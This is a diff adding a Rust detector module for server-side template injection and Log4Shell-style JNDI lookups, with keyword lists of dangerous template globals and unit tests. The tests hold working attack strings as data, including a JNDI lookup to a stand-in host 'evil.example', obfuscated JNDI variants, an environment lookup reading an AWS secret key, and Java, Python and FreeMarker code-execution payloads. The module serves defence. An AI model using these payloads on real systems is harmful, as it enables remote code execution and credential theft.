@@ -1,0 +1,268 @@
+//! Server-side template injection and Log4Shell-style lookups. Lookups are *resolved* before
+//! matching (`${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`, `${env:X:-j}` all become `jndi:`),
+//! with bounded nesting. Template expressions (`{{…}}`, `{%…%}`, `${…}`, `#{…}`, `*{…}`,
+//! `<%…%>`, `<#…>`) are reported when their content computes or reaches objects
+//! (arithmetic, calls, dunder attributes, well-known template globals), not when they merely
+//! name a variable (`{{ name }}`).
+
+use super::subject::{class, gate, Hit, Subject, Tables};
+
+/// Deepest lookup nesting resolved; deeper nesting is itself reported.
+const MAX_NESTING: usize = 12;
+
+const LOOKUPS: &[&[u8]] = &[
+    b"${env:",
+    b"${sys:",
+    b"${java:",
+    b"${ctx:",
+    b"${main:",
+    b"${bundle:",
+    b"${docker:",
+    b"${k8s:",
+    b"${spring:",
+    b"${web:",
+    b"${base64:",
+    b"${lower:",
+    b"${upper:",
+    b"${::-",
+    b"${log4j:",
+    b"${jvmrunargs:",
+    b"${sd:",
+    b"${marker:",
+    b"${map:",
+    b"${event:",
+];
+
+const OPENERS: &[(&[u8], &[u8])] = &[
+    (b"{{", b"}}"),
+    (b"{%", b"%}"),
+    (b"${", b"}"),
+    (b"#{", b"}"),
+    (b"*{", b"}"),
+    (b"@{", b"}"),
+    (b"<%", b"%>"),
+    (b"<#", b">"),
+    (b"#set(", b")"),
+];
+
+const ACTIVE: &[&[u8]] = &[
+    b"__",
+    b"config",
+    b"self",
+    b"request",
+    b"lipsum",
+    b"cycler",
+    b"joiner",
+    b"namespace",
+    b"settings",
+    b"getclass",
+    b"class.",
+    b".class",
+    b"runtime",
+    b"processbuilder",
+    b"exec",
+    b"freemarker",
+    b"?new",
+    b"t(",
+    b"new ",
+    b"|attr",
+    b"|join",
+    b"|map",
+    b"import",
+    b"_self",
+    b"environment",
+    b"application",
+    b"session",
+    b"context",
+    b"object",
+    b"system",
+    b"@java",
+    b"#this",
+    b"#root",
+    b"#_memberaccess",
+    b"popen",
+    b"eval",
+    b"include",
+    b"constructor",
+    b"global.",
+    b"process.",
+    b"require",
+    b"getruntime",
+    b"forname",
+    b"invoke",
+    b"mro",
+];
+
+/// Finds template injection or lookup injection in one value.
+pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
+    if !s.has(class::BRACE | class::ANGLE | class::HASH) {
+        return None;
+    }
+    let b = s.bytes();
+    if s.gate(gate::LOOKUP) {
+        if let Some(p) = memchr::memmem::find(b, b"${") {
+            if let Some(at) = jndi(&b[p..]) {
+                return Some(Hit::new("ssti.jndi", p + at, (p + at + 12).min(b.len())));
+            }
+            for l in LOOKUPS {
+                if let Some(q) = memchr::memmem::find(&b[p..], l) {
+                    return Some(Hit::new("ssti.log4j_lookup", p + q, p + q + l.len()));
+                }
+            }
+        }
+    }
+    for (open, close) in OPENERS {
+        // Each expression costs up to a window: a bounded number is examined per value.
+        for start in memchr::memmem::find_iter(b, open).take(256) {
+            let from = start + open.len();
+            let window = &b[from..b.len().min(from + 512)];
+            let Some(end) = memchr::memmem::find(window, close) else {
+                break;
+            };
+            if active(&window[..end], s.paranoia) {
+                return Some(Hit::new(
+                    "ssti.template_expression",
+                    start,
+                    from + end + close.len(),
+                ));
+            }
+        }
+    }
+    None
+}
+
+fn active(content: &[u8], paranoia: u8) -> bool {
+    let c = content.trim_ascii();
+    // ERB/JSP output markers: `<%= … %>`, `<%- … %>`.
+    let c = c
+        .strip_prefix(b"=")
+        .or_else(|| c.strip_prefix(b"-"))
+        .unwrap_or(c)
+        .trim_ascii();
+    if c.is_empty() {
+        return false;
+    }
+    if c.contains(&b'(') || ACTIVE.iter().any(|a| memchr::memmem::find(c, a).is_some()) {
+        return true;
+    }
+    // Arithmetic between literals: `7*7`, `7*'7'`, `7 + 7`.
+    let digits = |x: &[u8]| x.iter().any(u8::is_ascii_digit);
+    for (i, ch) in c.iter().enumerate() {
+        if matches!(ch, b'*' | b'+' | b'/' | b'%' | b'-' | b'^') && i > 0 {
+            let (l, r) = (c[..i].trim_ascii(), c[i + 1..].trim_ascii());
+            let lit = |x: &[u8]| {
+                !x.is_empty()
+                    && x.iter()
+                        .all(|c| c.is_ascii_digit() || matches!(c, b'\'' | b'"' | b'.'))
+            };
+            if lit(l) && lit(r) && digits(l) && digits(r) {
+                return true;
+            }
+        }
+    }
+    paranoia >= 3 && c.iter().any(|ch| matches!(ch, b'[' | b'|' | b'='))
+}
+
+/// Resolves Log4j lookups; the offset of a lookup that resolves to `jndi:`.
+fn jndi(b: &[u8]) -> Option<usize> {
+    if memchr::memmem::find(b, b"${jndi:").is_some() {
+        return memchr::memmem::find(b, b"${jndi:");
+    }
+    let mut frames: Vec<(usize, Vec<u8>)> = vec![(0, Vec::new())];
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') {
+            if frames.len() > MAX_NESTING {
+                return Some(i);
+            }
+            frames.push((i, Vec::new()));
+            i += 2;
+            continue;
+        }
+        if b[i] == b'}' && frames.len() > 1 {
+            let (start, content) = frames.pop()?;
+            if content.starts_with(b"jndi:") {
+                return Some(start);
+            }
+            let resolved: &[u8] = if let Some(p) = memchr::memmem::find(&content, b":-") {
+                &content[p + 2..]
+            } else if content.starts_with(b"lower:") || content.starts_with(b"upper:") {
+                &content[6..]
+            } else {
+                &[]
+            };
+            let resolved = resolved.to_vec();
+            if let Some(top) = frames.last_mut() {
+                top.1.extend_from_slice(&resolved);
+            }
+            i += 1;
+            continue;
+        }
+        if let Some(top) = frames.last_mut() {
+            if top.1.len() < 64 {
+                top.1.push(b[i]);
+            }
+        }
+        i += 1;
+    }
+    frames[1..]
+        .iter()
+        .find(|(_, c)| c.starts_with(b"jndi:"))
+        .map(|(s, _)| *s)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inspect::subject::test_subject;
+
+    fn rule(text: &str) -> Option<&'static str> {
+        test_subject(text, 1, detect).map(|h| h.rule)
+    }
+
+    #[test]
+    fn attacks() {
+        for (a, r) in [
+            ("${jndi:ldap://evil.example/a}", "ssti.jndi"),
+            ("${${lower:j}ndi:ldap://x/a}", "ssti.jndi"),
+            ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "ssti.jndi"),
+            (
+                "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}",
+                "ssti.jndi",
+            ),
+            ("${env:AWS_SECRET_ACCESS_KEY}", "ssti.log4j_lookup"),
+            ("{{7*7}}", "ssti.template_expression"),
+            ("{{ config.items() }}", "ssti.template_expression"),
+            (
+                "{{''.__class__.__mro__[1].__subclasses__()}}",
+                "ssti.template_expression",
+            ),
+            (
+                "${T(java.lang.Runtime).getRuntime().exec('id')}",
+                "ssti.template_expression",
+            ),
+            ("<%= 7*7 %>", "ssti.template_expression"),
+            ("#{7*7}", "ssti.template_expression"),
+            (
+                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
+                "ssti.template_expression",
+            ),
+        ] {
+            assert_eq!(rule(a), Some(r), "{a}");
+        }
+    }
+
+    #[test]
+    fn templates_and_prose_pass() {
+        for b in [
+            "Hello {{ name }}",
+            "${user.name}",
+            "{% endif %}",
+            "{\"a\": 1}",
+            "#{id}",
+            "cost: ${price}",
+        ] {
+            assert_eq!(rule(b), None, "false positive on {b}");
+        }
+    }
+}
